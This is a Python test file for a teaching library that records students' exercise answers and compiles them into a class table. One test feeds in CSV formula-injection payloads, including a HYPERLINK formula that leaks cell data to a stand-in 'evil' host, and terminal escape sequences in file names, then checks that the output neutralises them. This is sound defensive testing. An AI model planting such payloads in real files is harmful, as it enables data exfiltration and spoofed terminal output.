"""What a class has answered is counted right, whatever happens to the files."""

import csv
import json
import subprocess
import sys

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import anuralib as al
from anuralib.course import classroom, exercises


@pytest.fixture(autouse=True)
def questions(monkeypatch):
    """Two exercises whose answer is 1, and no recording left over from a test."""
    exercises.exercises()
    known = dict(exercises._CHECKS)
    for name in ("test.1", "two-words.2"):
        known[name] = lambda answer: None if answer == 1 else "your answer was secret words"
    monkeypatch.setattr(exercises, "_CHECKS", known)
    yield
    al.record_answers(None)


def lines_of(path):
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def line(**changes):
    """A line as `record_answers` writes it."""
    right = {"time": "2026-03-01T10:00:00+00:00", "session": "s", "exercise": "test.1", "attempt": 1, "passed": True,
             "hint_shown": False, "version": "0.1.0"}  # fmt: skip
    return json.dumps(right | changes)


steps = st.lists(st.tuples(st.sampled_from(["test.1", "two-words.2"]), st.sampled_from([0, 1, ..., "restart"])))


@settings(max_examples=60)
@given(steps)
def test_any_sequence_of_checks_is_counted_right(tmp_path_factory, steps):
    folder = tmp_path_factory.mktemp("class")
    al.record_answers(folder / "kim.jsonl")
    tried = {}
    for name, answer in steps:
        if answer == "restart":  # the kernel starts again, and with it the numbers of the attempts
            al.record_answers(folder / "kim.jsonl")
            continue
        assert al.check(name, answer) is (answer == 1)
        if answer is not ...:
            tried.setdefault(name, []).append(answer)
    al.record_answers(None)
    if not tried:
        with pytest.warns(UserWarning, match="kim.jsonl: no answers"):
            assert al.collect_answers(folder).empty
        return
    table = al.collect_answers(folder).set_index("exercise")
    assert set(table.index) == set(tried) and set(table["student"]) == {"kim"}
    for name, answers in tried.items():
        row = table.loc[name]
        assert row["attempts"] == len(answers)
        assert row["hints"] == answers.count(0)
        assert row["passed"] == (1 in answers) == pd.notna(row["first_pass"]) == pd.notna(row["attempts_to_pass"])
        if 1 in answers:
            assert row["attempts_to_pass"] == answers.index(1) + 1


def test_a_line_says_neither_answer_nor_hint_unless_asked(tmp_path):
    al.record_answers(tmp_path / "a.jsonl", name="17")
    al.check("test.1", "my own words")
    al.record_answers(tmp_path / "b.jsonl", answers=True)
    al.check("test.1", "my own words")
    (short,), (long,) = lines_of(tmp_path / "a.jsonl"), lines_of(tmp_path / "b.jsonl")
    keys = {"time", "session", "exercise", "attempt", "passed", "hint_shown", "version", "name"}
    assert set(short) == keys and short["name"] == "17" and short["hint_shown"] and not short["passed"]
    assert "words" not in json.dumps(short)
    assert long["answer"] == "'my own words'" and "secret words" in long["hint"] and "name" not in long


def test_answers_are_kept_short_and_an_object_that_cannot_be_shown_is_no_obstacle(tmp_path):
    class Odd:
        def __repr__(self):
            raise RuntimeError("no")

    al.record_answers(tmp_path / "a.jsonl", answers=True)
    al.check("test.1", list(range(1000)))
    al.check("test.1", Odd())
    assert [len(each["answer"]) <= 300 for each in lines_of(tmp_path / "a.jsonl")] == [True, True]


def test_recording_is_off_until_asked_for_and_after_it_is_ended(tmp_path, capsys):
    al.record_answers(tmp_path / "a.jsonl")
    said = capsys.readouterr().out
    assert "a.jsonl on this computer" in said and "not the answers" in said
    al.check("test.1", 1)
    assert al.record_answers(None) is None
    al.check("test.1", 1)
    assert len(lines_of(tmp_path / "a.jsonl")) == 1


@pytest.mark.parametrize("name", ["answers.txt", "answers", "jsonl"])
def test_other_endings_are_refused(tmp_path, name):
    with pytest.raises(ValueError, match=r"\.jsonl"):
        al.record_answers(tmp_path / name)


NO_NAMES = ["", "  ", "a\nb", "a\tb", "\x1b[2J", "x\u202ey", "\ud800", "\u00ad", "a\u2028b", "\u200d", "x" * 101]


@pytest.mark.parametrize("name", [*NO_NAMES, 3])
def test_names_that_are_none_are_refused(tmp_path, name):
    with pytest.raises(ValueError, match="one line"):
        al.record_answers(tmp_path / "a.jsonl", name=name)


def test_a_file_that_cannot_be_written_is_refused_at_once_and_never_stops_a_check(tmp_path):
    (tmp_path / "taken.jsonl").mkdir()
    with pytest.raises(OSError):
        al.record_answers(tmp_path / "taken.jsonl")
    path = al.record_answers(tmp_path / "a.jsonl")
    path.unlink()
    path.mkdir()
    with pytest.warns(UserWarning, match="not recorded"):
        assert al.check("test.1", 1)


WRITER = """
import sys
import anuralib as al
from anuralib.course import exercises
exercises._CHECKS["test.1"] = lambda answer: None if answer == 1 else "x" * 3000
al.record_answers(sys.argv[1], answers=True)
sys.stdin.readline()
for answer in [0] * 40 + [1]:
    al.check("test.1", answer)
"""


def test_two_notebooks_may_write_to_one_file_at_the_same_time(tmp_path):
    path = tmp_path / "kim.jsonl"
    start = [sys.executable, "-c", WRITER, str(path)]
    runs = [subprocess.Popen(start, stdin=subprocess.PIPE, stdout=subprocess.PIPE) for _ in range(2)]
    for run in runs:
        assert b"written to kim.jsonl" in run.stdout.readline()  # both are ready before either begins
    for run in runs:
        run.stdin.write(b"\n")
        run.stdin.flush()
    for run in runs:
        run.communicate()
        assert run.returncode == 0
    row = al.collect_answers(tmp_path).iloc[0]
    assert row["attempts"] == 82 and row["hints"] == 80 and row["passed"]


@pytest.mark.parametrize("kept", [1, 40, -1])
def test_an_interrupted_write_costs_one_line_and_no_other(tmp_path, kept):
    path = tmp_path / "kim.jsonl"
    path.write_text(line() + "\n" + line(attempt=2)[:kept], encoding="utf-8")
    al.record_answers(path)
    al.check("two-words.2", 1)
    al.check("two-words.2", 0)
    with pytest.raises(ValueError, match=r"kim\.jsonl, line 2: not a whole line"):
        al.collect_answers(tmp_path)
    with pytest.warns(UserWarning, match=r"kim\.jsonl, line 2"):
        table = al.collect_answers(tmp_path, on_error="skip").set_index("exercise")
    assert table["attempts"].to_dict() == {"test.1": 1, "two-words.2": 2}


@pytest.mark.parametrize(
    ("written", "said"),
    [
        (line(passed="yes"), "passed is 'yes'"), (line(passed=1), "passed is 1"),
        (line(attempt=True), "attempt is True"),
        (line(attempt=0), "don't fit"), (line(passed=False), "don't fit"), (line(time="noon"), "time is 'noon'"),
        (line(time="2026-03-01T10:00:00"), "time is"), (line(time="9000-03-01T10:00:00+00:00"), "time is"),
        (line(exercise="= test"), "no name of an exercise"), (line(name=3), "name is 3"), ("[1, 2]", "a record"),
        ('{"time": "2026-03-01T10:00:00+00:00"}', "session is missing"), ("[" * 100_000, "JSON"),
        (line() + ",", "JSON"),
    ],
)  # fmt: skip
def test_a_line_edited_by_hand_is_named_with_file_and_line(tmp_path, written, said):
    folder = tmp_path / "maria"
    folder.mkdir()
    (folder / "answers.jsonl").write_text(f"{line()}\n\n{written}\n", encoding="utf-8")
    with pytest.raises(ValueError, match="maria/answers.jsonl, line 3: .*" + said):
        al.collect_answers(tmp_path)


@pytest.mark.parametrize("field", ["name", "version", "session", "exercise"])
@pytest.mark.parametrize("text", [*NO_NAMES, "x" * 10_000])
def test_the_rules_of_names_hold_for_what_is_read_too(tmp_path, field, text):
    (tmp_path / "a.jsonl").write_text(line(**{field: text}), encoding="utf-8")
    with pytest.raises(ValueError, match=f"a.jsonl, line 1: {field} is .*was it edited") as told:
        al.collect_answers(tmp_path)
    assert len(str(told.value)) < 300 and str(told.value).isprintable()


@pytest.mark.parametrize("name", ["Ana", "José Ñ. d'Ávila-Souza", "Ана", "陳大文", "نیلی\u200cفر", "17", "=1+1"])
def test_names_of_people_are_kept_as_they_are(tmp_path, name):
    al.record_answers(tmp_path / "a.jsonl", name=f" {name} ")
    al.check("test.1", 1)
    assert al.collect_answers(tmp_path)["student"].tolist() == [name]


def test_one_name_written_in_two_ways_is_one_student(tmp_path):
    (tmp_path / "a.jsonl").write_text(line(name="Jos\u00e9"), encoding="utf-8")
    (tmp_path / "b.jsonl").write_text(line(name=" Jose\u0301", session="t"), encoding="utf-8")
    assert al.collect_answers(tmp_path)["attempts"].tolist() == [2]


@pytest.mark.parametrize("attempt", [10**6 + 1, 10**4000])
def test_a_number_of_attempts_that_nobody_has_is_refused(tmp_path, attempt):
    (tmp_path / "a.jsonl").write_text(line(attempt=attempt), encoding="utf-8")
    with pytest.raises(ValueError, match="don't fit together"):
        al.collect_answers(tmp_path)


def test_megabytes_in_a_field_are_neither_kept_nor_told(tmp_path):
    long = line(hint="x" * 10_000_000)
    (tmp_path / "a.jsonl").write_text(f"{line()}\n{long}\n{line(attempt=2)}", encoding="utf-8")
    with pytest.raises(ValueError, match=r"line 2: over 16384 bytes") as told:
        al.collect_answers(tmp_path)
    assert len(str(told.value)) < 200
    with pytest.warns(UserWarning, match="line 2: over"):
        assert al.collect_answers(tmp_path, on_error="skip")["attempts"].tolist() == [2]


def test_of_many_broken_lines_the_first_are_told_and_the_others_counted(tmp_path):
    (tmp_path / "a.jsonl").write_text("{\n" * 500 + line(), encoding="utf-8")
    with pytest.warns(UserWarning) as told:
        al.collect_answers(tmp_path, on_error="skip")
    assert len(told) == 11 and "490 more lines" in str(told[-1].message)


def miss(**changes):
    return line(**{"passed": False, "hint_shown": True} | changes)


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ([miss(attempt=i) for i in (1, 2, 3)], [line(session="t", time="2020-01-01T00:00:00+00:00")]),  # fell back
        ([miss(attempt=i, time="2098-01-01T00:00:00+00:00") for i in (1, 2, 3)], [line(session="t")]),  # was ahead
        ([miss(attempt=i, time="1970-01-01T00:00:00+00:00") for i in (1, 2, 3)], [line(session="t")]),  # never set
    ],
)
def test_a_clock_that_was_wrong_makes_nobody_pass_sooner(tmp_path, first, second):
    for name, lines in (("1", first), ("2", second)):
        (tmp_path / f"{name}.jsonl").write_text(
            "\n".join(text.replace("}", ', "name": "Ana"}') for text in lines), encoding="utf-8")  # fmt: skip
    (row,) = al.collect_answers(tmp_path).itertuples()
    assert row.attempts_to_pass == row.attempts == 4 and row.passed


def test_the_table_has_no_formulas_and_the_terminal_no_escapes(tmp_path, capsys):
    names = ['=HYPERLINK("http://evil/?"&A1)', "+1", "-1", "@SUM(A1)", "\uff1d1", "a;=1+1"]
    for i, name in enumerate(names):
        (tmp_path / f"{i}.jsonl").write_text(line(name=name, version="=2+2", exercise="-x.1"), encoding="utf-8")
    (tmp_path / "=3 \x1b[2J\u202e.jsonl").write_text(line(), encoding="utf-8")
    (tmp_path / "bad\x1b]0;owned\x07.jsonl").write_text("{", encoding="utf-8")
    with pytest.warns(UserWarning) as told:
        classroom.main([str(tmp_path), "--csv", str(tmp_path / "out.csv"), "--skip"])
    assert all(str(each.message).isprintable() for each in told)
    assert capsys.readouterr().out.replace("\n", "").isprintable()
    with open(tmp_path / "out.csv", encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert len(cells) == 8 * (len(names) + 2)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))]
    assert {"'=2+2", "'-x.1", "'+1", "'=3 \\x1b[2J\\u202e"} <= set(cells)


def test_a_file_of_another_kind_is_named(tmp_path):
    (tmp_path / "a.jsonl").write_bytes(b"\xff\xfe\x00")
    with pytest.raises(ValueError, match=r"a\.jsonl, line 1"):
        al.collect_answers(tmp_path)


def test_a_byte_order_mark_and_line_ends_of_windows_are_read(tmp_path):
    (tmp_path / "a.jsonl").write_bytes(b"\xef\xbb\xbf" + line().encode() + b"\r\n")
    assert len(al.collect_answers(tmp_path)) == 1


def test_folders_without_files_are_refused(tmp_path):
    with pytest.raises(FileNotFoundError, match=r"\.jsonl"):
        al.collect_answers(tmp_path)
    with pytest.raises(FileNotFoundError, match="no such folder"):
        al.collect_answers(tmp_path / "nowhere")
    with pytest.raises(ValueError, match="on_error"):
        al.collect_answers(tmp_path, on_error="ignore")


def test_students_are_told_apart_by_name_or_by_file_and_a_copy_counts_once(tmp_path):
    for folder in ("maria", "joao"):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "answers.jsonl").write_text(line(session=folder), encoding="utf-8")
    named = "\n".join([line(session="x", name="Ana"), line(session="x", name="Ana", attempt=2)])
    (tmp_path / "first.jsonl").write_text(named, encoding="utf-8")
    (tmp_path / "first (1).jsonl").write_text(named, encoding="utf-8")
    table = al.collect_answers(tmp_path)
    assert table.set_index("student")["attempts"].to_dict() == {"Ana": 2, "joao/answers": 1, "maria/answers": 1}


def test_sessions_of_a_student_follow_each_other_in_time(tmp_path):
    late = line(time="2026-03-02T10:00:00+00:00")
    early = line(time="2026-03-01T12:00:00+02:00", session="e", passed=False, hint_shown=True)
    (tmp_path / "a.jsonl").write_text(late.replace("}", ', "name": "Ana"}'), encoding="utf-8")
    (tmp_path / "b.jsonl").write_text(early.replace("}", ', "name": "Ana"}'), encoding="utf-8")
    (row,) = al.collect_answers(tmp_path).itertuples()
    assert (row.attempts_to_pass, row.attempts) == (2, 2) and row.first_pass == pd.Timestamp("2026-03-02T10:00Z")


def test_the_command_writes_a_table_and_says_what_is_broken(tmp_path, capsys):
    never = line(exercise="pond.2", passed=False, hint_shown=True)
    (tmp_path / "ana.jsonl").write_text(f"{line()}\n{never}\n", encoding="utf-8")
    classroom.main([str(tmp_path), "--csv", str(tmp_path / "out.csv")])
    assert capsys.readouterr().out.splitlines()[-1].split() == ["ana", "not", "yet", "1"]
    assert pd.read_csv(tmp_path / "out.csv")["student"].tolist() == ["ana", "ana"]
    (tmp_path / "bo.jsonl").write_text("{", encoding="utf-8")
    with pytest.raises(SystemExit) as stopped:
        classroom.main([str(tmp_path)])
    assert stopped.value.code == 1 and "bo.jsonl, line 1" in capsys.readouterr().err
